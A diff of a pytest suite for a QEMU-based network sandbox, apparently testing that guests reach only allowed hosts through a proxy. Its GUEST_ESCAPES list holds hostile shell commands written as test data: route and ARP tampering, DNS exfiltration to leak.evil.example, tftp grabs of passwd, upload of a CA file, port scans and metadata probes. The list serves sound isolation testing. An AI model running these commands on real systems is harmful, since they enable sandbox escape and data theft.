@@ -11,31 +11,69 @@ import pytest
 from tests.support.bottle import Bottle, Ended
 from tests.support.engines import Docker
 from tests.support.escapes import ESCAPES, client_context
-from tests.support.killing import hold_network_ends_with_proxy
-from tests.support.world import API, OTHER, WILD, World, hold_value_reached_its_host_alone, world
+from tests.support.killing import hold_download_ends_with_proxy
+from tests.support.world import (
+    API,
+    LAN,
+    METADATA,
+    OTHER,
+    RESOLVER,
+    TURNS,
+    WILD,
+    World,
+    hold_value_reached_its_host_alone,
+    world,
+)
 
 pytestmark = pytest.mark.timeout(600)
 
 PROXY = "10.0.2.100"
 # what root in a guest of QEMU may try besides
+_CURL = "curl -sS -m 5 --noproxy '*'"
 GUEST_ESCAPES = (
-    f"ip route add default via 10.0.2.2; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
-    f"ip route add {OTHER}/32 dev eth0; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
-    f"ip addr add 10.0.2.77/24 dev eth0; curl -sS -m 5 --noproxy '*' --interface 10.0.2.77 http://{OTHER}/",
-    "curl -sS -m 5 --noproxy '*' http://10.0.2.2/; curl -sS -m 5 --noproxy '*' http://10.0.2.2:443/",
-    "nslookup -timeout=2 leak.evil.example 10.0.2.3; echo leak | nc -w 2 10.0.2.3 53",
-    "udhcpc -i eth0 -n -q -t 1 -s /bin/true; tftp -g -r passwd -l - 10.0.2.2",
-    "for port in 22 80 139 443 445; do nc -w 2 10.0.2.4 $port; nc -w 2 10.0.2.100 $port; done </dev/null",
-    f"for each in 10.0.2.2 {OTHER} 255.255.255.255; do"
-    " echo leak | nc -u -w 2 $each 443; ping -c 1 -W 1 $each; done",
+    f"ip route add {OTHER}/32 dev eth0; {_CURL} http://{OTHER}/",
+    f"ip addr add 10.0.2.77/24 dev eth0; {_CURL} --interface 10.0.2.77 http://{OTHER}/",
+    # QEMU answers for PROXY, and takes whatever is sent to its hardware address
+    f"ip route add default via {PROXY}; for each in {OTHER} {API} {LAN} {METADATA}; do {_CURL} $each; done",
+    f"arp -s 10.0.2.2 52:55:0a:00:02:64; {_CURL} http://10.0.2.2/; {_CURL} http://10.0.2.2:443/",
+    f"nslookup -timeout=2 leak.evil.example 10.0.2.3; echo leak | nc -w 2 10.0.2.3 53; {_CURL} 10.0.2.3",
+    f"nslookup -timeout=2 leak.evil.example {RESOLVER}; echo leak | nc -w 2 {RESOLVER} 53",
+    f"udhcpc -i eth0 -n -q -t 1 -s /bin/true; tftp -g -r passwd -l - {PROXY}; tftp -p -l /ca.pem {PROXY}",
+    f"for port in 22 53 80 443 445; do nc -w 1 10.0.2.4 $port; nc -w 1 {PROXY} $port; done </dev/null",
+    f"for each in {PROXY} {OTHER} 255.255.255.255; do"
+    " echo leak | nc -u -w 1 $each 53; echo leak | nc -u -w 1 $each 443; ping -c 1 -W 1 $each; done",
+    f"ip -6 addr add fec0::15/64 dev eth0; {_CURL} 'http://[fec0::2]/'; nslookup leak.evil.example fec0::3",
+    "ip addr del 127.0.0.1/8 dev lo; mount -o remount,rw /proc/sys;"
+    f" echo 1 >/proc/sys/net/ipv4/conf/eth0/route_localnet; ip route add 127.0.0.0/8 via {PROXY};"
+    f" {_CURL} http://127.0.0.1/; {_CURL} http://127.0.0.2/",
 )
-WORKS = """
+# Sends one of two words and 1 MB; prints what is answered. After `first` it says that this is all, and then
+# waits for the answer; after `last` it waits for the answer and its end, and sends some more.
+PEER = r"""
+socket(P, 2, 1, 0) && connect(P, pack("Sna4x8", 2, 3128, pack("C4", 10, 0, 2, 100))) or die $!;
+alarm 60;
+select(P); $| = 1; select(STDOUT);
+print P "CONNECT ADDRESS HTTP/1.1\r\nHost: ADDRESS\r\n\r\n";
+while (<P>) { last if $_ eq "\r\n" }
+print P "$ARGV[0]\n", "x" x 1_000_000;
+shutdown(P, 1) if $ARGV[0] eq "first";
+my @answer = <P>;
+print P "y" x 1000 if $ARGV[0] eq "last";
+print @answer;
+""".replace("ADDRESS", f"{API}:{TURNS}")
+WORKS = f"""
 set -e
+cat >/tmp/peer <<'END'
+{PEER}
+END
 curl -sS http://api.example.org/plain
 curl -sS https://api.example.org/secure
 git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
 curl -sS https://api.example.org/size/20000000 | wc -c
 head -c 20000000 /dev/zero | curl -sS -T - https://api.example.org/sink; echo
+curl -sS -m 60 -p http://{API}:{TURNS}/ | wc -c
+perl /tmp/peer first
+perl /tmp/peer last
 """
 CREDENTIAL = """
 echo "holds $KEY"
@@ -93,10 +131,12 @@ def proof(there: Bottle) -> dict[str, Any]:
 
 
 def test_with_one_host_allowed_all_of_it_works(run: Run, there: Bottle, outside: World) -> None:
-    done = run(WORKS, "--allow", "api.example.org")
+    done = run(WORKS, "--allow=api.example.org", f"--allow={API}:{TURNS}")
     assert done.code == 0, done
     plain, secure = (f"reached {API}:{port}" for port in (80, 443))
-    assert done.out.splitlines() == [plain, secure, "from far away", "20000000", "20000000"]
+    files = [plain, secure, "from far away", "20000000", "20000000"]
+    assert done.out.splitlines() == [*files, "3000000", "1000000", "all"], done
+    assert [each["more"] for each in outside.seen() if "more" in each] == [1000]
     assert {each["address"] for each in outside.seen()} == {API}
     found = proof(there)
     assert all(each["ok"] for each in found.values())
@@ -152,11 +192,16 @@ def test_a_secret_for_a_host_reaches_that_host_alone_and_not_the_bottle(
 
 
 def test_a_running_bottle_is_checked_and_allowed_another_host(
-    there: Bottle, client: Path, outside: World
+    there: Bottle, client: Path, outside: World, tmp_path: Path
 ) -> None:
+    (tmp_path / "key").write_text("a-secret\n")
     script = "until curl -sSf http://other.example.org/; do sleep 0.5; done"
     own = ("run", "-q", "-d", "--accel=direct", "-m", "1g", "--name=walls", "--allow=api.example.org")
-    assert there(*own, "--archive", client, "--", "sh", "-c", script).code == 0
+    given = ("--env=MINE=its own", f"--secret=id=KEY,src={tmp_path}/key", "--archive", client)
+    assert there(*own, *given, "--", "sh", "-c", script).code == 0
+    asks = 'curl -sSf http://api.example.org/plain && echo "$MINE, $OTHER, ${KEY-none}"'
+    execed = there("exec", "-e", "OTHER=another", "walls", "--", "sh", "-c", asks)
+    assert execed.out == f"reached {API}:80\nits own, another, none\n", execed
     checked = json.loads(there("check", "--json", "walls").out)
     assert all(each["ok"] for each in checked.values())
     assert {each["address"] for each in outside.seen()} <= {API}
@@ -168,7 +213,7 @@ def test_a_running_bottle_is_checked_and_allowed_another_host(
 
 def test_without_its_proxy_nothing_is_reached(there: Bottle, client: Path) -> None:
     own = ("--accel=direct", "-m", "512m", "--name=walls", "-u", "0", "-w", "/tmp")
-    hold_network_ends_with_proxy(there, *own, "--archive", client)
+    hold_download_ends_with_proxy(there, *own, "--archive", client)
 
 
 def test_an_open_network_is_refused(run: Run) -> None:
